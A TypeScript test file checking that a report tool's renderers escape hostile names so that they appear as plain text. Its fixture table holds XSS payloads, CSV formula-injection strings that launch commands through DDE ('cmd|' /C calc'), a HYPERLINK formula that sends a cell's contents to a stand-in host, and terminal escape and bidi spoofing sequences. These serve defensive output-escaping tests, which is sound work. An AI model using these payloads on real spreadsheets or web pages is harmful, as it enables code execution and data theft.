import { rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { RendererName } from "../src/report/renderers.ts";
import type { Report } from "../src/report/report.ts";
import { fixtureReport } from "./support/fixture-report.ts";
import { formWords } from "./support/form-words.ts";
import { withTexts } from "./support/hostile-report.ts";
import { htmlElements, markdownHtml } from "./support/markdown-html.ts";
import { type Element, parsePage } from "./support/page.ts";
import { render, rendererNames } from "./support/render.ts";
import { run } from "./support/run.ts";
import { transcriptFolder } from "./support/transcript-commands.ts";

// Names that mean something to what shows them, wherever a name can stand, through every form of output.

const hostile = {
  "a script": "<script>alert(1)</script>",
  "an image": '"><img src=x onerror=alert(1)>',
  "an attribute": "' onmouseover='alert(1)' x=\"",
  "an SVG": "]]></title></style></script></textarea><svg/onload=alert(1)><!--",
  "a style": "</style><style>*{background:url(https://example.org/x)}",
  "an address of a script": "javascript:alert(1)",
  entities: "&lt;b&gt;&#60;&amp;&nbsp;&apos",
  "a link": "[link](javascript:alert(1)) ![image](https://example.org/x.png) <https://example.org>",
  markup: "# *a* _b_ ~~c~~ `d` ***e*** \\ - [ ] > f ---",
  "a table": "| a | b |\n| --- | --- |\n",
  "a mention": "@everybody #1 person@example.org www.example.org http://example.org GH-1 ",
  backticks: "``` ` `` ",
  "a formula": '=HYPERLINK("https://example.org?"&A1,"x")',
  "a formula after a space": "  =1+1",
  "a formula after a semicolon": ";=1+1;-1;@x",
  "a plus": "+1+cmd|' /C calc'!A0",
  "a minus": "-2+3",
  "an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a wide sign": "＝1+1",
  "a tab and a formula": "\t=1+1",
  "a carriage return and a formula": "\r=1+1",
  "quotation marks": '"",",\'"',
  "a terminal's escapes": "\u001B[2J\u001B[31m\u001B]0;title\u0007\u009B1m\u001B]8;;https://example.org\u0007",
  "right-to-left marks": "safe\u202Evsc.exe\u2066\u200F\u061C",
  "what takes no room": "\u200B\u200D\u2060\uFEFF\u00AD\u{E0041}",
  "line ends": "one\ntwo\r\nthree\u2028four\u2029five\u0085six\u000Bseven\fheight",
  "null characters": "\0a\0",
  "half a character": "\uD800",
  "ten thousand characters": "x".repeat(10_000),
  "ten thousand wide characters": "理".repeat(10_000),
  "ten thousand marks": `e${"\u0301".repeat(10_000)}`,
  "a name of objects": "__proto__",
  spaces: "    ",
} as const;

/** What a terminal acts on, or what cannot be seen. */
const hidden = /[^\P{Cc}\n]|[\p{Cs}\p{Zl}\p{Zp}\p{DI}\u{FFF9}-\u{FFFB}]/u;

interface Law {
  /** What must hold of what is written of a report that holds this text. */
  readonly holds: (written: string, report: Report) => void;
  /** What must be the same as without the text; nothing where lines are wrapped. */
  readonly skeleton: (written: string) => unknown;
}

const table: Law = {
  holds: (written) => {
    for (const row of parse(written, { columns: false }))
      for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]|;\s*[=+\-@＝＋－＠]/u);
  },
  skeleton: (written) => parse(written, { columns: false }).map((row) => row.length),
};

const laws: Readonly<Record<RendererName, Law>> = {
  text: { holds: () => undefined, skeleton: () => null },
  json: {
    holds: (written, report) => expect(JSON.parse(written)).toEqual(report),
    skeleton: (written) => written.split("\n").length,
  },
  ndjson: {
    holds: (written) => {
      for (const line of written.trimEnd().split("\n")) expect(JSON.parse(line)).toHaveProperty("kind");
    },
    skeleton: (written) =>
      written
        .trimEnd()
        .split("\n")
        .map((line) => Object.keys(JSON.parse(line) as object)),
  },
  markdown: {
    holds: (written) => {
      const html = markdownHtml(written);
      const known = /^(?:h[123]|p|ul|li|table|thead|tbody|tr|th|td|strong|blockquote|code)$/;
      expect(htmlElements(html).filter((name) => !known.test(name))).toEqual([]);
      expect(html.replace(/<code>[^<]*<\/code>/g, "")).not.toMatch(/[@#]/);
    },
    skeleton: (written) => htmlElements(markdownHtml(written)).filter((name) => name !== "code"),
  },
  html: { holds: () => undefined, skeleton: (written) => parsePage(written).elements.map(shape) },
  csv: table,
  csvDecisions: table,
};

let report: Report | null = null;
let folder = "";

const runs = new Map<RendererName, Promise<string>>();

/** What a run writes on a log, a policy and claims whose every name is one of these. */
function hostileRun(name: RendererName): Promise<string> {
  const written = runs.get(name) ?? runOn(hostileFiles(), name);
  runs.set(name, written);
  return written;
}

async function runOn({ log, policy, claims }: ReturnType<typeof hostileFiles>, name: RendererName): Promise<string> {
  const map = `address=${column("address")},name=${column("name")},email=${column("mail")},meeting=${column("meeting")}`;
  const asked = ["--map", map, "-p", policy, "--claims", claims, "--reveal", "--verbose", "-q"];
  const { stdout, stderr, status } = await run([log, ...asked, ...formWords(name)]);
  expect({ stderr, status }).toEqual({ stderr: "", status: 0 });
  return stdout;
}

/** A name that a column can have and `--map` can name. */
function column(name: string): string {
  return `<b>${name}</b> | \`=1+1\` @all \u202E`;
}

function hostileFiles(): { readonly log: string; readonly policy: string; readonly claims: string } {
  const texts: readonly string[] = Object.values(hostile).filter((text) => text !== hostile.spaces);
  const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const row = (text: string, index: number): string =>
    [`52.167.0.${index}`, text, `${text}@example.org`, text].map(cell).join(",");
  const header = ["address", "name", "mail", "meeting"].map((name) => cell(column(name))).join(",");
  const write = (name: string, text: string): string => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  };
  const all = texts.join(" ").replaceAll("\uD800", "");
  const policy = {
    name: all,
    demand: { by: "US" },
    rules: [{ id: `=1+1 <b> | ${hostile["right-to-left marks"]}`, block: ["US"], because: all }],
  };
  const text = "US >= 1 in any meeting";
  const claims = { claims: [{ id: "claim", text, declared: { by: all, because: all } }] };
  return {
    log: write(
      `=1+1 <img src=x> | \`b\` @all \u202E\n\u001B[2J ${"x".repeat(150)}.csv`,
      `${header}\n${texts.map(row).join("\n")}\n`,
    ),
    policy: write("=1 <b> | policy.json", JSON.stringify(policy)),
    claims: write("=1 <b> | claims.json", JSON.stringify(claims)),
  };
}

/** A report that holds something of everything. */
function everything(): Report {
  if (report === null) throw new Error("made before all");
  return report;
}

beforeAll(async () => {
  folder = transcriptFolder();
  const words =
    "june4-1.csv june4-2.json june4-3.csv june4-4.ndjson --time-zone UTC -d places.mmdb -d others.mmdb --claims claims.yaml " +
    "-p policy.yaml -p policy-fail-closed.yaml --same-person same-person.csv --reveal";
  const whole = await fixtureReport(folder, words.split(" "));
  // Some of everything, and not all of it with ten thousand characters.
  const few = (meeting: Report["all"]): Report["all"] => ({
    ...meeting,
    shares: meeting.shares.slice(0, 3),
    policies: meeting.policies.map((policy) => ({ ...policy, decisions: someDecisions(policy.decisions) })),
    comparisons: meeting.comparisons.map((one) => ({ ...one, changes: one.changes.slice(0, 2) })),
  });
  report = {
    ...whole,
    anonymizers: [{ name: "list.txt", type: "text", built: null, sha256: "6".repeat(64) }],
    options: { ...whole.options, map: { address: "Client IP" }, meeting: "june4" },
    rows: { ...whole.rows, rejectedRows: [{ input: "june4-1.csv", line: 3, reason: "extra-cells" }] },
    claims: whole.claims.slice(1, 3).map((claim) => ({
      ...claim,
      findings: claim.findings.map((finding) => ({ ...finding, readings: finding.readings.slice(-2) })),
    })),
    meetings: whole.meetings.slice(2, 3).map(few),
    all: few(whole.all),
  };
});

type Decisions = Report["all"]["policies"][number]["decisions"];

/** One of each outcome and reason. */
function someDecisions(decisions: Decisions): Decisions {
  const by = new Map(decisions.map((one) => [`${one.decision} ${one.reason}`, one]));
  return [...by.values()];
}

afterAll(() => rmSync(folder, { recursive: true }));

/** An element's name and the names of its attributes, which no text can change. */
function shape({ tagName, attrs }: Element): string {
  return [tagName, ...attrs.map(({ name }) => name)].join(" ");
}

const plain = new Map<RendererName, Promise<string>>();

/** What is written where the text is a letter. */
async function harmless(name: RendererName): Promise<string> {
  const written = plain.get(name) ?? render(name, withTexts(everything(), "x"));
  plain.set(name, written);
  return written;
}

describe.each(rendererNames)("%s", (name) => {
  it("shows all of them as text, from the files of a run", async () => {
    const written = await (runs.get(name) ?? hostileRun(name));
    expect(hidden.exec(written)).toBeNull();
    laws[name].holds(written, JSON.parse(await hostileRun("json")));
  });

  it.each(Object.entries(hostile))("shows %s as text", async (_, text) => {
    const given = withTexts(everything(), text);
    const written = await render(name, given);
    expect(hidden.exec(written)).toBeNull();
    laws[name].holds(written, given);
    expect(laws[name].skeleton(written)).toEqual(laws[name].skeleton(await harmless(name)));
  });
});
